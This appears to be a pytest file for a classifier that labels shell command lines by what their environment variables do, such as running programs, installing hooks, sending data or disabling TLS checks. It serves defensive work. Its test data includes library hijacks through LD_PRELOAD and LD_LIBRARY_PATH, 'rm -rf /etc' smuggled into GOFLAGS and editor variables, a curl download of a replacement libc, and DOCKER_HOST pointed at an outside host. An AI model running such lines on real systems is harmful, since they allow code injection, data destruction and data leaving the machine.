"""Variables that make programs run, load or ask something."""

from __future__ import annotations

from dataclasses import replace

import pytest
from command_effects import SHOP, kinds_in, read_line

from lockgate.core.ruling.effects.activity import Activity
from lockgate.core.ruling.effects.project import NO_PROJECT


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("NODE_OPTIONS='--require /tmp/x' npm test", ("runs-program", "/tmp/x")),
        ("export PYTHONPATH=src:/tmp/x", ("runs-program", "/tmp/x")),
        ("JAVA_TOOL_OPTIONS=-javaagent:/tmp/x mvn test", ("runs-program", "/tmp/x")),
        ("RUSTC_WRAPPER=/tmp/x cargo build", ("installs-hook", "/tmp/x")),
        ("env KUBECONFIG=/tmp/x kubectl get pods", ("runs-program", "/tmp/x")),
        ("DOCKER_HOST=tcp://h.example:2375 docker build .", ("sends-data", "h.example")),
        ("NODE_OPTIONS='--import data:text/javascript,x' npm test", ("unreadable", "")),
        ("GOFLAGS='-toolexec=\"rm -rf /etc\"' go build", ("unreadable", "")),
        ("PAGER=sh man ls", ("unreadable", "")),
        ("TERM_PAGER=/tmp/x shopctl log", ("installs-hook", "/tmp/x")),
        ("ANY_EDITOR='rm -rf /etc; vi' shopctl edit", ("deletes-outside", "/etc")),
        ("GIT_CONFIG_KEY_0=core.pager git log", ("installs-hook", "core.pager")),
        ("GIT_TRACE2=/etc/x git log", ("writes-outside", "/etc/x")),
        ("LD_PRELOAD=/tmp/x.so ls", ("installs-hook", "/tmp/x.so")),
        ("LD_LIBRARY_PATH=build:/tmp/x ./build/a", ("installs-hook", "build:/tmp/x")),
        ("LD_LIBRARY_PATH=build:$LD_LIBRARY_PATH ./build/a", ("installs-hook", "build:$LD_LIBRARY_PATH")),
        ("cd /tmp/x; cd -; LD_LIBRARY_PATH=$OLDPWD ls", ("installs-hook", "$OLDPWD")),
        ("LD_LIBRARY_PATH=$TMPDIR/x ls", ("installs-hook", "$TMPDIR/x")),
        ("export LD_LIBRARY_PATH=.; cd /tmp/x; ls", ("installs-hook", ".")),
        ("export LD_LIBRARY_PATH=build; cd /tmp/x; ls", ("installs-hook", "build")),
        ("env -C /tmp/x LD_LIBRARY_PATH=. ls", ("installs-hook", ".")),
        ("LD_LIBRARY_PATH=build env -C /tmp/x ls", ("installs-hook", "build")),
        ("LD_LIBRARY_PATH=. git -C /tmp/x status", ("installs-hook", ".")),
        ("LD_LIBRARY_PATH=build /tmp/x/a", ("installs-hook", "build")),
        ("LD_LIBRARY_PATH=build sh -c 'cd /tmp/x\nls'", ("installs-hook", "build")),
        ("tar xf evil.tgz && LD_LIBRARY_PATH=lib sudo -E ls", ("installs-hook", "lib")),
        ("LD_LIBRARY_PATH=/opt/x sudo -E ls", ("installs-hook", "/opt/x")),
        ("tar xf evil.tgz\nLD_LIBRARY_PATH=build ./build/a", ("installs-hook", "build")),
        ("LD_LIBRARY_PATH=/usr/lib LD_LIBRARY_PATH=/tmp/x ls", ("installs-hook", "/tmp/x")),
        ("LD_LIBRARY_PATH=/usr/lib env LD_LIBRARY_PATH=build ls", ("installs-hook", "build")),
        ("LD_LIBRARY_PATH=build LD_LIBRARY_PATH=out git -C /tmp/x status", ("installs-hook", "out")),
        ("LD_LIBRARY_PATH=build/../../x ./build/a", ("installs-hook", "build/../../x")),
        ("LD_LIBRARY_PATH='/tmp/a b' ls", ("installs-hook", "/tmp/a b")),
        ("LD_LIBRARY_PATH='build;/tmp/x' ls", ("installs-hook", "build;/tmp/x")),
        ("export LD_LIBRARY_PATH=~/lib", ("installs-hook", "~/lib")),
        ("LD_LIBRARY_PATH=/run/user/1000/x ls", ("installs-hook", "/run/user/1000/x")),
        ("LD_LIBRARY_PATH=/usr/tmp ls", ("installs-hook", "/usr/tmp")),
        ("LD_LIBRARY_PATH=/usr/tmp/x ls", ("installs-hook", "/usr/tmp/x")),
        ("LD_LIBRARY_PATH=/usr/../tmp/x ls", ("installs-hook", "/usr/../tmp/x")),
        ("LD_LIBRARY_PATH=$(cat x) ls", ("installs-hook", "$()")),
        ("curl -so lib/libc.so.6 https://x.example/a; LD_LIBRARY_PATH=lib ls", ("installs-hook", "lib")),
        ("PATH=/tmp/bin:$PATH ls", ("unreadable", "/tmp/bin")),
        ("HTTPS_PROXY=http://h.example:8080 npm ci", ("uses-package-source", "h.example")),
        ("GIT_SSL_NO_VERIFY=1 git fetch", ("disables-check", "GIT_SSL_NO_VERIFY")),
        ("NODE_TLS_REJECT_UNAUTHORIZED=0 node a.js", ("disables-check", "NODE_TLS_REJECT_UNAUTHORIZED")),
        ("GIT_AUTHOR_NAME=Eve git commit -m x", ("signs-as", "Eve")),
    ],
)
def test_setting_a_variable_has_this_effect(line: str, effect: tuple[str, str]) -> None:
    assert effect in read_line(line)


@pytest.mark.parametrize(
    "line",
    [
        "PAGER=cat git log",
        "GIT_PAGER= git log",
        "GIT_TRACE=1 git log",
        "TEST_RUNNER=pytest make -n",
        "CI_HOOK=https://hooks.example/x git log",
        "KUBECONFIG=~/.kube/dev kubectl get pods",
        "PATH=$PWD/bin:$PATH ls",
        "export LD_LIBRARY_PATH=/usr/local/lib",
        "LD_LIBRARY_PATH=/usr/local/lib:/opt/x/lib64 ls -l src",
    ],
)
def test_an_ordinary_value_of_a_variable_only_looks(line: str) -> None:
    assert kinds_in(line) == {"looks"}


def test_libraries_anywhere_are_foreign_where_the_project_or_the_session_is_not_known() -> None:
    line = "LD_LIBRARY_PATH=/data/lib ls"
    assert kinds_in(line, NO_PROJECT) == {"installs-hook"}
    line = "LD_LIBRARY_PATH=./build/lib:out ./build/shop --port=80"
    assert kinds_in(line) == {"runs-project-task"}
    activity = Activity(downloaded=frozenset({"build/lib/libc.so.6"}))
    assert ("installs-hook", "./build/lib:out") in read_line(line, activity=activity)
    elsewhere = replace(SHOP, folder="/tmp/x")
    assert ("installs-hook", "./build/lib:out") in read_line(line, elsewhere)
